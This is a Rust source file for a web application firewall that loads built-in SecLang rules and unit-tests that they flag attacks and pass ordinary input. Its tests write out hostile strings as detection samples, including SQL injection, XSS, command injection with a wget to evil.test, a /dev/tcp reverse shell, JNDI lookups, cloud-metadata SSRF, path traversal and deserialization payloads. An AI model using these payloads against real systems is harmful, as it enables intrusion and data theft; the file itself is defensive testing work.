//! The rules that come with the engine, in SecLang: a small set of our own for where the Core Rule
//! Set is not installed, and what the gateway says before and after any rules.
//!
//! Deliberately not here: which of them are taken. Ids from 4,700,001 to 4,700,299 are theirs.

/// Before all rules: the engine is on, and which reader a body gets.
pub const BEFORE: &str = include_str!("../rules/before.conf");

/// The small rule set.
pub const RULES: &str = include_str!("../rules/builtin.conf");

/// After all rules: what could not be read is refused.
pub const AFTER: &str = include_str!("../rules/after.conf");

/// The tag of a rule that turns the anomaly score into a verdict, here and in the Core Rule Set.
pub const EVALUATION: &str = "anomaly-evaluation";

/// The tag of a rule that refuses a body which the engine cannot read.
pub const UNREADABLE: &str = "fortress/body";

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        injection,
        pattern::{Pattern, Read},
        seclang::{
            Action, DirectiveKind, NoFiles, Operator, Phase, Piece, Rule, Ruleset, RulesetBuilder,
            Transformation, Variable,
        },
    };

    fn all() -> Ruleset {
        let mut builder = RulesetBuilder::default();
        for (name, text) in [
            ("before.conf", BEFORE),
            ("builtin.conf", RULES),
            ("after.conf", AFTER),
        ] {
            builder.add_file(name, text, &mut NoFiles);
        }
        builder
            .build()
            .unwrap_or_else(|mistakes| panic!("{mistakes:#?}"))
    }

    fn id(rule: &Rule) -> u64 {
        let actions = rule.links.iter().flat_map(|link| &link.actions);
        let mut ids = actions.filter_map(|action| {
            if let Action::Id(id) = action {
                Some(*id)
            } else {
                None
            }
        });
        ids.next().unwrap()
    }

    type Test = Box<dyn Fn(&[u8]) -> bool>;

    /// A rule as it looks at one argument: an approximation of the engine that is enough to try the
    /// texts of these rules, which have no chains.
    struct Tried {
        id: u64,
        transformations: Vec<Transformation>,
        matches: Test,
    }

    /// The rules of a variable that score at paranoia level 1.
    fn tried(ruleset: &Ruleset, variable: Variable) -> Vec<Tried> {
        let rules = ruleset.directives().iter().filter_map(|directive| {
            if let DirectiveKind::Rule(rule) = &directive.kind {
                Some(rule)
            } else {
                None
            }
        });
        rules
            .filter_map(|rule| {
                let [link] = rule.links.as_slice() else {
                    panic!("{}", id(rule))
                };
                if !link
                    .targets
                    .iter()
                    .any(|target| target.variable == variable)
                {
                    return None;
                }
                let argument = match link.test.argument.0.as_slice() {
                    [] => Vec::new(),
                    [Piece::Text(text)] => text.clone(),
                    pieces => panic!("{pieces:?}"),
                };
                let operator = link.test.operator;
                let matches: Test = if operator == Operator::Rx {
                    let pattern = Pattern::parse(&argument).unwrap();
                    assert!(!Read::new(&argument).unwrap().is_widened);
                    Box::new(move |text: &[u8]| pattern.regex.is_match(text))
                } else if operator == Operator::DetectSqli {
                    Box::new(|text: &[u8]| injection::sqli::detect(text).is_some())
                } else {
                    assert_eq!(operator, Operator::DetectXss);
                    Box::new(injection::xss::detect)
                };
                let mut transformations = Vec::new();
                for action in &link.actions {
                    if let Action::TransformNone = action {
                        transformations.clear();
                    } else if let Action::Transform(one) = action {
                        transformations.push(*one);
                    }
                }
                // Those of level 2 stand behind a marker that this does not follow.
                let id = id(rule);
                (!(4_700_160..4_700_190).contains(&id)).then_some(Tried {
                    id,
                    transformations,
                    matches,
                })
            })
            .collect()
    }

    #[track_caller]
    fn check(rules: &[Tried], value: &str, expected: &[u64]) {
        assert_eq!(found(rules, value), expected, "{value}");
    }

    fn found(rules: &[Tried], value: &str) -> Vec<u64> {
        rules
            .iter()
            .filter(|rule| {
                let mut text = value.as_bytes().to_vec();
                for transformation in &rule.transformations {
                    let mut out = Vec::new();
                    if transformation.apply(&text, &mut out) {
                        text = out;
                    }
                }
                (rule.matches)(&text)
            })
            .map(|rule| rule.id % 1000)
            .collect()
    }

    #[test]
    fn they_are_rules_with_ids_of_their_own() {
        let ruleset = all();
        let mut ids = Vec::new();
        for directive in ruleset.directives() {
            if let DirectiveKind::Rule(rule) = &directive.kind {
                let id = id(rule);
                assert!((4_700_001..=4_700_299).contains(&id), "{id}");
                ids.push(id);
                let [link] = rule.links.as_slice() else {
                    panic!("{id}")
                };
                let scores = link.actions.iter().any(|action| {
                    matches!(action, Action::SetVar(set) if format!("{set:?}").contains("score_pl"))
                });
                let tagged = link
                    .actions
                    .iter()
                    .any(|action| matches!(action, Action::Tag(_)));
                // What scores, refuses: people need a tag to leave it out, and a message.
                let is_score = scores && id % 100 < 90 && id != 4_700_100;
                assert!(!is_score || tagged, "{id}");
                let phased = link.actions.iter().any(|action| {
                    matches!(
                        action,
                        Action::Phase(
                            Phase::RequestHeaders | Phase::RequestBody | Phase::ResponseBody
                        )
                    )
                });
                assert!(phased, "{id}");
            }
        }
        assert!(ids.len() > 25);
        assert!(ruleset.without_effect().is_empty());
    }

    #[test]
    fn attacks_are_found() {
        let rules = tried(&all(), Variable::Args);
        check(&rules, "1' OR '1'='1", &[110]);
        check(&rules, "1 UNION SELECT password FROM users", &[110]);
        check(&rules, "<script>alert(1)</script>", &[120]);
        check(&rules, "%3Cimg src=x onerror=alert(1)%3E", &[120]);
        check(&rules, "8.8.8.8; cat /etc/passwd", &[130, 140]);
        check(&rules, "a | wget http://evil.test/x", &[130]);
        check(&rules, "$(whoami)", &[130]);
        check(&rules, "`id`", &[130]);
        check(&rules, "a && sleep 10", &[130]);
        check(&rules, "x\n/bin/ls", &[130]);
        check(&rules, "() { :; }; /bin/bash -c 'id'", &[130, 131]);
        check(&rules, "cmd.exe /c dir", &[131]);
        check(&rules, "powershell -enc SQBFAFgA", &[131]);
        check(&rules, "bash -i >& /dev/tcp/10.0.0.1/80", &[131]);
        check(&rules, "${jndi:ldap://evil.test/a}", &[132]);
        check(&rules, "${${lower:j}ndi:x}", &[132]);
        check(&rules, "{{''.__class__.__mro__}}", &[132]);
        check(&rules, "../../../../secret", &[140]);
        check(&rules, "..%2f..%2fsecret", &[140]);
        check(&rules, "..\\..\\windows\\win.ini", &[140]);
        check(&rules, "/etc/passwd", &[140]);
        check(&rules, "http://169.254.169.254/latest/meta-data/", &[141]);
        check(&rules, "file:///x", &[141]);
        check(&rules, "gopher://127.0.0.1:6379/_", &[141]);
        check(&rules, "a\r\nSet-Cookie: admin=1", &[150]);
        check(&rules, "a\r\n\r\nHTTP/1.1 200 OK", &[150]);
        // Some of these read as SQL besides.
        for (value, expected) in [
            (r#"{"$ne":null}"#, 112),
            ("[$gt]", 112),
            ("{$where: 'sleep(5000)'}", 112),
            ("*)(uid=*))(|(uid=*", 113),
            ("admin)(|(password=*))", 113),
            ("admin)(&)", 113),
            ("<?php system('id'); ?>", 133),
            ("<?= $x ?>", 133),
            (r#"O:8:"Example1":1:{s:1:"a";i:1;}"#, 133),
            ("java.lang.Runtime.getRuntime().exec('id')", 133),
            ("new ProcessBuilder('id').start()", 133),
            ("rO0ABXNyABFqYXZh", 133),
        ] {
            assert!(found(&rules, value).contains(&expected), "{value}");
        }
    }

    #[test]
    fn what_people_and_programs_write_is_left_alone() {
        let rules = tried(&all(), Variable::Args);
        for value in [
            "",
            "alice@example.com",
            "O'Brien",
            "It's the user's choice; select one from the list.",
            "Please update your address, and drop me a line",
            "2026-11-24T10:12:03Z",
            "6f9619ff-8b86-d011-b42d-00c04fc964ff",
            "https://shop.example.com/a/b?c=d&e=f#g",
            "+49 30 123456",
            "1,299.00 EUR",
            "Find out more; sleep well & kill time",
            "cats | dogs",
            "C++ & C#; a < b > c",
            "{\"a\":[1,2,{\"b\":null}]}",
            "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
            "../images/logo.png",
            "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0",
            "line one\nline two\nlocation unknown",
            "Ünïcödé, 中文, עברית",
            "${amount} for {{name}}",
            "#1 of 3",
            "etc. and so on",
            "169.254.1.1",
            "profile: admin",
            "f(x)(y) and (a)(b), see (1) (or 2)",
            "$in stock: [$5, $10] {$amount}",
            "5 * (3 + 4) * (a - b)",
            "Java and PHP, at runtime: a process builder <?> O:8",
            "HTTP/1.1 is old",
        ] {
            check(&rules, value, &[]);
        }
    }

    #[test]
    fn names_answers_and_readers() {
        let ruleset = all();
        let names = tried(&ruleset, Variable::ArgsNames);
        for name in ["json.user.$ne", "user[$gt]", "$where", "json.$or.0.a"] {
            check(&names, name, &[111]);
        }
        for name in ["json.user", "price$", "$id", "json.$ref", "a[0]", "$schema"] {
            check(&names, name, &[]);
        }
        let answers = tried(&ruleset, Variable::ResponseBody);
        check(
            &answers,
            "ORA-00933: SQL command not properly ended",
            &[200],
        );
        check(&answers, "\tat com.example.A.b(A.java:12)\n", &[200]);
        check(&answers, "-----BEGIN RSA PRIVATE KEY-----", &[201]);
        check(&answers, "-----BEGIN PRIVATE KEY-----", &[201]);
        check(&answers, "-----BEGIN CERTIFICATE-----", &[]);
        check(&answers, "{\"error\":\"not found\",\"at\":\"a.java\"}", &[]);
    }
}
